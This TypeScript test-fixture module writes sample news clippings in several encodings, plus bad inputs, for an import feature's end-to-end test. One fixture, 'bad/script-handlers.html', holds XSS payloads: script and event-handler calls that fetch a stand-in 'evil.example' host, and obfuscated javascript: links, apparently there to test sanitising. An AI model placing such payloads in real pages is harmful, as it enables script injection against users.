import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { encodeLegacy, encodeUtf16leBom, encodeUtf8Bom, noiseBytes } from './encodeText';

/** A file the import must turn into an article with this title. */
export interface GoodClipping {
  path: string;
  title: string;
  /** Text the clean pane must hold (proves the encoding was read right). */
  phrase: string;
}

/**
 * A bad input and how the import must list it: skipped, failed, or (empty and all-chrome pages,
 * the policy SECURITY.md asks to pin) imported with a warning under `title`.
 */
export interface BadClipping {
  path: string;
  status: 'Skipped' | 'Failed' | 'With warnings';
  reason: RegExp;
  title?: string;
}

export interface JourneyFolder {
  dir: string;
  good: GoodClipping[];
  bad: BadClipping[];
}

const samplesDir = path.resolve(import.meta.dirname, '..', '..', 'assets', 'samples');
/** The five seeds' titles as a careful reader gives them (file name -> title), copied from the corpus gold. */
export const seedTitles = JSON.parse(readFileSync(path.join(import.meta.dirname, 'seedTitles.json'), 'utf8')) as Record<string, string>;

// Distinct passages per file, so a title or phrase can only come from its own file.
const ZH_PORT = ['宁波舟山港今年前五个月完成货物吞吐量五亿吨,同比增长百分之六,集装箱航线新增十二条。', '港口负责人表示,自动化码头投入使用后,船舶平均在港时间缩短了将近一天,物流成本明显下降。', '业内人士认为,随着航运需求回暖,下半年吞吐量有望继续保持增长,但仍需关注国际市场的变化。'];
const ZH_RAIL = ['新建铁路今天开通运营,沿线十二个县市结束了不通高铁的历史,最快两小时可到达省会城市。', '铁路部门介绍,开通初期每天安排列车三十对,并将根据客流情况适时增加班次,方便群众出行。', '当地商户表示,通车之后前来旅游的客人明显增多,餐饮和住宿的生意都比往年同期好了不少。'];
const ZH_GRAIN = ['农业农村部门发布消息,今年夏粮再获丰收,小麦平均亩产比去年提高了十五公斤左右。', '专家分析,良种推广和病虫害统防统治发挥了重要作用,农机作业让收割进度比往年提前三天。', '粮食收购工作已经全面展开,各地收购网点延长营业时间,确保农民的粮食卖得出、卖得好。'];
const ZH_WATER = ['城市供水改造工程全部完工,老旧小区的二次供水设施得到更新,居民用水更加放心。', '水务公司表示,新的管网采用智能监测系统,能够及时发现漏水点,每年可节约自来水上百万吨。', '不少居民说,过去夏天用水高峰时水压不足的问题终于解决了,打开水龙头就有稳定的水流。'];
const TW_BUDGET = ['行政院今日召開院會,通過明年度中央政府總預算案,總額較今年增加百分之三點五。', '發言人表示,預算重點包括長期照顧、國防自主與數位轉型,並將持續推動區域均衡發展。', '立法院預計下個月開始審查,在野黨團表示將逐項檢視各部會的計畫內容與執行成效。'];
const ZH_LIBRARY = ['市图书馆新馆今天正式对外开放,馆内藏书超过两百万册,设有少儿阅读区和古籍修复展示区。', '馆方介绍,读者可以通过自助设备借还图书,夜间阅览室每天开放到晚上十点,周末也不休息。', '开馆第一天就迎来了上万名读者,许多家长带着孩子一起来办理借书证,现场气氛十分热烈。'];

const CHROME = {
  simplified: { home: '首页', news: '新闻', about: '关于我们', from: '来源', rights: '版权所有', reserved: '保留所有权利' },
  traditional: { home: '首頁', news: '新聞', about: '關於我們', from: '來源', rights: '版權所有', reserved: '保留所有權利' },
};

function page(title: string, paragraphs: string[], head = '', site = '示例新闻网', script: keyof typeof CHROME = 'simplified'): string {
  const w = CHROME[script];
  const body = paragraphs.map((p) => `<p>${p}</p>`).join('\n');
  return `<!DOCTYPE html>\n<html><head>${head}<title>${title} - ${site}</title></head>\n<body>\n<nav><a href="/">${w.home}</a> | <a href="/news">${w.news}</a> | <a href="/about">${w.about}</a></nav>\n<article><h1>${title}</h1>\n<p class="meta">2024-06-03 09:30 ${w.from}:${site}</p>\n${body}\n</article>\n<footer>${w.rights} ${site} ${w.reserved}</footer>\n</body></html>\n`;
}

const GOOD: { path: string; title: string; bytes: (title: string) => Buffer; phrase: string }[] = [
  { path: 'html/utf8-nometa.html', title: '宁波舟山港前五月货物吞吐量增长', phrase: '自动化码头投入使用后', bytes: (t) => Buffer.from(page(t, ZH_PORT)) },
  { path: 'html/utf8-bom.html', title: '新建铁路今天开通运营', phrase: '结束了不通高铁的历史', bytes: (t) => encodeUtf8Bom(page(t, ZH_RAIL, '<meta charset="utf-8">')) },
  { path: 'html/gbk-meta.html', title: '今年夏粮再获丰收', phrase: '小麦平均亩产', bytes: (t) => encodeLegacy(page(t, ZH_GRAIN, '<meta charset="gbk">'), 'gbk') },
  { path: 'html/gbk-nometa.html', title: '城市供水改造工程全部完工', phrase: '二次供水设施', bytes: (t) => encodeLegacy(page(t, ZH_WATER), 'gbk') },
  { path: 'html/big5-meta.html', title: '行政院通過總預算案', phrase: '長期照顧、國防自主', bytes: (t) => encodeLegacy(page(t, TW_BUDGET, '<meta http-equiv="Content-Type" content="text/html; charset=big5">', '範例新聞網', 'traditional'), 'big5') },
  { path: 'html/utf16le-bom.html', title: '市图书馆新馆正式对外开放', phrase: '古籍修复展示区', bytes: (t) => encodeUtf16leBom(page(t, ZH_LIBRARY, '<meta charset="utf-16le">')) },
  {
    path: 'markdown/harbour-notes.md',
    title: 'Harbour talks resume after a long winter',
    phrase: 'second round of talks about shipping lanes',
    bytes: (t) =>
      Buffer.from(
        `# ${t}\n\n*Harbour Daily, 3 June 2024*\n\nNegotiators returned to the harbour city on Monday for a second round of talks about shipping lanes and port fees.\n\n<div class="callout"><p>Officials said the atmosphere was <em>constructive</em> and that a joint statement could follow later this week.</p></div>\n\nBoth delegations declined to comment on the details, but a <strong>draft agreement</strong> on pilotage is said to be close.\n\n- Pilotage rules\n- Berth allocation\n- Fees for small vessels\n`,
      ),
  },
  {
    path: 'text/arctic-dump.txt',
    title: 'Arctic Council ministers meet in Reykjavik',
    phrase: 'agreed to keep talking about the Arctic',
    bytes: (t) =>
      Buffer.from(
        `Home | World | Politics | Contact\n\n${t}\n\nPublished 20 May 2021\n\nThe foreign ministers met on Wednesday evening and agreed to keep talking about the Arctic, despite tensions elsewhere.\n\nDiplomats described the two-hour meeting as businesslike. Climate research, shipping routes and search-and-rescue cooperation were on the agenda.\n\nThe next ministerial meeting is planned for 2023, when Norway takes over the chair of the council.\n\nShare this article | Print | Subscribe to our newsletter\nCopyright 2021 Example Wire\n`,
      ),
  },
  {
    path: 'bad/script-handlers.html',
    title: '城市公园改造完成迎客',
    phrase: '新增步道三公里',
    bytes: (t) =>
      Buffer.from(
        `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${t}</title><script>parent.postMessage('pwned','*');fetch('https://evil.example/x')</script></head>\n<body onload="fetch('https://evil.example/onload')"><article><h1>${t}</h1>\n<img src="x" onerror="fetch('https://evil.example/img')"><svg onload="alert(1)"></svg>\n<p>城市公园改造工程近日完成,新增步道三公里,种植乔木两千余株,公园面积扩大到原来的一点五倍。</p>\n<p>改造后的公园增设了儿童游乐区和健身器材,<a href="javascript:alert(1)">夜间照明</a>也全部更换为节能灯具,市民晚上散步更加方便。</p>\n<p>管理部门提醒游客爱护绿地,<a href="JaVaScRiPt&#58;alert(2)">文明游园</a>,共同维护公园的整洁环境。</p>\n<input autofocus onfocus="fetch('https://evil.example/focus')"></article></body></html>\n`,
      ),
  },
];

const ALL_BOILERPLATE = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>网站导航</title></head><body>
<nav><a href="/">首页</a> | <a href="/a">新闻</a> | <a href="/b">体育</a> | <a href="/c">财经</a> | <a href="/d">登录</a> | <a href="/e">注册</a></nav>
<div class="cookie">本网站使用Cookie以改善您的体验。<button>同意</button></div>
<footer>关于我们 | 联系我们 | 隐私政策 | 版权所有 © 示例网站 | 京ICP备00000000号</footer>
</body></html>\n`;

/**
 * Writes the Open-folder journey's folder: the five seeds, a clipping of every kind and encoding,
 * and a bad-input subset (empty, binary files named as text, noise, a page that is all chrome).
 * Returns what the library must show for each file.
 */
export function writeJourneyFolder(parent: string): JourneyFolder {
  const dir = path.join(parent, 'Journey clippings');
  mkdirSync(path.join(dir, 'seeds'), { recursive: true });
  cpSync(samplesDir, path.join(dir, 'seeds'), { recursive: true });
  const good: GoodClipping[] = Object.values(seedTitles).map((title) => ({ path: '', title, phrase: '' }));
  for (const file of GOOD) {
    mkdirSync(path.dirname(path.join(dir, file.path)), { recursive: true });
    writeFileSync(path.join(dir, file.path), file.bytes(file.title));
    good.push({ path: file.path, title: file.title, phrase: file.phrase });
  }
  writeFileSync(path.join(dir, 'bad', 'empty.html'), '');
  writeFileSync(path.join(dir, 'bad', 'pdf-as.html'), Buffer.concat([Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1'), noiseBytes(2048, 7)]));
  writeFileSync(path.join(dir, 'bad', 'png-as.html'), Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), Buffer.from('IHDR'), noiseBytes(512, 11)]));
  writeFileSync(path.join(dir, 'bad', 'random.txt'), noiseBytes(64 * 1024));
  writeFileSync(path.join(dir, 'bad', 'all-boilerplate.html'), ALL_BOILERPLATE);
  writeFileSync(path.join(dir, 'bad', 'photo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
  const bad: BadClipping[] = [
    { path: 'bad/empty.html', status: 'With warnings', reason: /No article text was found/, title: 'empty.html' },
    { path: 'bad/pdf-as.html', status: 'Failed', reason: /Not a text document \(detected PDF\)/ },
    { path: 'bad/png-as.html', status: 'Failed', reason: /Not a text document \(detected PNG\)/ },
    { path: 'bad/random.txt', status: 'Failed', reason: /Not a text document \(binary data\)/ },
    { path: 'bad/all-boilerplate.html', status: 'With warnings', reason: /very short|No article text/, title: '网站导航' },
    { path: 'bad/photo.png', status: 'Skipped', reason: /not a clipping type \(\.png\)/i },
  ];
  return { dir, good, bad };
}
